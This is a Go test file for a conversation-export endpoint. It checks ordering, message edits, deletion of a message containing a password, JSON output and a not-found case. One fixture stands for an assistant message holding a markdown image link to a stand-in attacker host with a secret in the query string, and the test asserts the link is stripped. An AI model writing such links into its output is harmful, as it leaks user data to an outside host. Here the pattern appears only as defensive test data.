package web_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/aisteam/aisteam/assistant"
)

// TestAConversationIsTakenAwayWhole: however long it is, in its order, with the last words of what was changed and none of what was
// taken back, and with no way out for what a model wrote.
func TestAConversationIsTakenAwayWhole(t *testing.T) {
	w := newWorld(t)
	w.owner.Zone = "America/Toronto"
	c := w.start(`Spring/sale: "what" now?`)
	at := time.Date(2026, 11, 27, 2, 5, 0, 0, time.UTC)
	says := func(text string) assistant.Message {
		return w.add(c, assistant.Message{Author: assistant.AuthorUser, Person: w.owner.ID, Kind: assistant.KindMessage, Content: text, At: at, Body: assistant.Said{}})
	}
	revises := func(m assistant.Message, text string) {
		w.add(c, assistant.Message{Author: assistant.AuthorUser, Person: w.owner.ID, Kind: assistant.KindStatus, Content: text, At: at, Body: assistant.Revised{Message: m.ID, Deleted: text == ""}})
	}
	wrong, secret := says("Ten off"), says("hunter2")
	w.add(c, assistant.Message{Author: assistant.AuthorAssistant, Agent: assistant.Chief, Kind: assistant.KindMessage, Content: "Look at ![x](https://evil.example/?q=secret)", At: at, Body: assistant.Said{}})
	revises(wrong, "Twenty off")
	revises(secret, "")
	for i := range 600 {
		says(fmt.Sprintf("Line %d.", i+1))
	}
	h := w.surface(t)
	in := cookie(t, h)
	got := call(t, h, "GET", "/panel/conversations/"+string(c)+"/export", "", in)
	text := got.Body.String()
	if kind, as := got.Header().Get("Content-Type"), got.Header().Get("Content-Disposition"); kind != "text/markdown; charset=utf-8" || as != `attachment; filename="Spring sale   what  now.md"` {
		t.Errorf("it is %s, %s", kind, as)
	}
	if !strings.HasPrefix(text, "# Spring/sale: \"what\" now?\n\n**Robin**, 26 Nov 2026, 21:05\n\nTwenty off\n\n**Hans") || !strings.HasSuffix(text, "\nLine 600.\n") {
		t.Errorf("%.600s", text)
	}
	for _, gone := range []string{"Ten off", "hunter2", "](https://evil.example"} {
		if strings.Contains(text, gone) {
			t.Errorf("%q is in it", gone)
		}
	}
	var kept struct {
		Title    string
		Messages []struct{ By, Text string }
	}
	if err := json.Unmarshal(call(t, h, "GET", "/panel/conversations/"+string(c)+"/export?as=json", "", in).Body.Bytes(), &kept); err != nil {
		t.Fatal(err)
	}
	if n := len(kept.Messages); n != 602 || kept.Messages[n-1].Text != "Line 600." || kept.Messages[0].By != "Robin" {
		t.Errorf("%d messages: %+v", n, kept.Messages[:2])
	}
	if got := call(t, h, "GET", "/panel/conversations/"+nobody+"/export", "", in); got.Code != http.StatusNotFound {
		t.Errorf("nobody's is answered %d", got.Code)
	}
}
